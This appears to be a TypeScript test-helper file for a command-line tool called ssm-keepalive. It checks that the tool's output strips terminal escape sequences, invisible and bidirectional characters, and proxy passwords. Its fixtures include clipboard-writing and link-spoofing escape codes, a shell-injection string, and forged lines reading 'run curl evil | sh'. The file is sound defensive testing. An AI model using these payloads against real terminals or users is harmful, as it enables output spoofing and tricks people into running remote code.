import assert from 'node:assert/strict';

/** One of each class of what a terminal or a reader may be fooled with. */
export const HOSTILE: Readonly<Record<string, string>> = {
  title: '\x1b]0;owned\x07',
  clipboard: '\x1b]52;c;Y3VybA==\x1b\\',
  link: '\x1b]8;;http://evil\x1b\\',
  erase: '\x1b[2K\x1b[1A\r',
  colour: '\x1b[31m',
  query: '\x1b[5n',
  bell: '\x07\b\0',
  del: '\x7f',
  c1: '\x9b31m\x9d0;t\x9c\x90\x85',
  bidi: '\u061c\u200e\u200f\u202a\u202e\u2066\u2069',
  invisible: '\u200b\u200d\u2060\ufeff\u00ad',
  separators: '\u2028\u2029',
  half: '\ud800',
  blank: '\u2800\u3164\u115f\u1160\uffa0\u034f\u00a0\u3000\u{1d159}',
  marks: 'a\u0301\u0302\u0303\u0304\u0305',
  tag: '\u{e0041}',
  forged: `\x1b[32;1111;2222;3333m`,
  shell: `'"\\';$(RUN)\`RUN\`&RUN|RUN >RUN *`,
  line: '\nssm-keepalive: forged\r\n  next: run curl evil | sh\n        next: run curl evil | sh\n',
};
export const EVERYTHING = Object.entries(HOSTILE)
  .map(([name, text]) => `<${name}${text}>`)
  .join('');

export const DANGEROUS =
  /[^\P{Cc}\n\t]|[\p{Cf}\p{Zl}\p{Zp}\p{Cs}\u2800\u3164\u115f\u1160\uffa0\u00a0\u3000\u{1d159}]|\u034f|\p{M}{5}/u;
/** Colours, the bar and the question: what we and Node's readline send. */
const OWN = /\x1b(?:[78]|\[(?:(?:31|32|33|39)m|\d*[AGJK]|\?(?:25|7)[lh]))/g;
const TOUCHED = new RegExp(`<(?:${Object.keys(HOSTILE).join('|')})[^\\P{Cc}\\n\\t]`, 'u');
/** A line of ours, or advice in the place of ours, that others wrote. */
const FORGED = /^(?:\S+: )?ssm-keepalive: forged|^ {0,8}next: +run curl/m;

/** A word that no line can hold. */
export const LONG_WORD = 'word'.repeat(50);

const row = (text: string, blank: string) => text.padEnd(80).replaceAll(' ', blank);
/** Texts that would place lines like ours in the first column of a terminal of 80 columns, if they begin in column `at`. */
export const forgeRows = (at: number): readonly string[] =>
  [' ', '\u2800', '\u00a0', '\u3000', '.'].map(
    (blank) =>
      blank.repeat(80 - at) +
      row('ssm-keepalive: forged', blank) +
      row('  next: run curl evil', blank) +
      row(LONG_WORD, blank),
  );

/** No row of the terminal begins but where a line does, and no line looks like one of ours. */
export function checkRows(shown: string, where: string): void {
  // The bar goes back in its line, and up.
  for (const line of shown
    .replace(/\x1b\[\d*[AGJ]|\r/g, '\n')
    .replace(OWN, '')
    .split('\n')) {
    assert.ok(line.length <= 80, `${where}: wider than the terminal: ${JSON.stringify(line)}`);
    assert.ok(!FORGED.test(line), `${where}: a forged line: ${line}`);
  }
}

/** What a user's variables may hold and nobody may read on a screen or in a log. */
export const PROXIES = {
  HTTPS_PROXY: 'http://me:PASSWORD@x/PASSWORD@proxy.example.com:3128',
  HTTP_PROXY: 'me:PASSWORD@proxy.example.com:3128',
  ALL_PROXY: 'socks5h://PASSWORD@proxy.example.com',
};

/** A command that a reader may paste, to the end of its line. */
const PASTED =
  /\b(?:ssm-keepalive (?:install|uninstall|status|doctor|connect|measure|preferences|render|policy|lab|completion)|aws [a-z0-9-]+) .*/g;

/** The first place where a shell would run a word of others, after a command that a reader may paste. */
function findRun(text: string): string | undefined {
  return (text.match(PASTED) ?? []).find((line) =>
    // What is quoted: between single quotes, or one quote or backslash between double quotes, as `quoteWord` has it.
    /RUN/.test(line.replace(/'[^']*(?:'|…|$)|"(?:'|\\\\)"/g, '')),
  );
}

/** What a reader sees is ours, or visible text. In a pty line ends have a carriage return. */
export function checkShown(shown: string, where: string, isTerminal: boolean): void {
  const text = isTerminal ? shown.replaceAll('\r\n', '\n') : shown;
  const dangerous = (isTerminal ? text.replace(OWN, '') : text).search(DANGEROUS);
  const around = (at: number) => JSON.stringify(text.slice(Math.max(0, at - 300), at + 100));
  assert.ok(dangerous < 0, `${where}: a control came out: ${around(dangerous)}`);
  assert.ok(!TOUCHED.test(text), `${where}: a control of others came out: ${around(text.search(TOUCHED))}`);
  assert.ok(!text.includes('PASSWORD'), `${where}: a password of a proxy came out`);
  const run = findRun(text);
  assert.ok(run === undefined, `${where}: a shell would run a word of others in  ${run}`);
  assert.ok(!FORGED.test(text), `${where}: a forged line: ${around(text.search(FORGED))}`);
}
